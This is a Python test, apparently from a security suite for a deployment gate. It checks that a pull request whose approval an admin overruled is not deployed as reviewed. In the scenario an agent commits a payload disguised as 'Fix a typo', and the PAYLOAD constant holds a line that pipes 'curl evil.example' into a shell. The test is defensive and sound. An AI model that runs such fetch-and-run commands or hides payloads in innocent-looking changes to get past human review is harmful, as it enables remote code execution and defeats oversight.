"""Invariants 4 and 12 at the deployment gate: a countersignature is a record of the
gate's *current* verdict, yet `record_passed_head` (app/deploy/records.py) is written
once and never withdrawn.

A maintainer approves the agent's pull request; the gate passes it and records its head
as countersigned. An admin then reads the diff, finds the payload and requests changes:
the merge gate blocks again. The head is still "approved through the merge gate" for the
deployment gate, so a preview deployment of the agent's branch, started by a human, is
approved at once with no human deciding.
"""

from __future__ import annotations

from tests.attacks.harness import ADMIN, MAINTAINER, REPO, Attack

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"


def test_r2_a_head_whose_approval_was_overruled_is_not_deployed_as_reviewed(attack: Attack):
    agent = attack.agent("agent:acme/fixer", "alice")
    agent.create_branch("typo-fix", attack.main())
    head = agent.commit("typo-fix", "src/app.py", PAYLOAD)
    number = agent.open_pull("typo-fix", base="main", title="Fix a typo")
    attack.sim.review(REPO, number, MAINTAINER)
    assert attack.check(number).conclusion == "success"
    attack.sim.review(REPO, number, ADMIN, state="CHANGES_REQUESTED")  # the payload is seen
    assert attack.check(number).conclusion == "action_required"

    _deployment, run_id = attack.sim.request_deployment(
        REPO, environment="staging", creator=MAINTAINER, ref="typo-fix"
    )
    gate = attack.sim.deployment_gate(run_id, "staging")
    assert gate != "approved", (
        f"{head[:7]}, which the merge gate now blocks (changes requested), was deployed "
        f"as reviewed: {[r.comment for r in attack.sim.deployment_reviews(run_id)]}"
    )
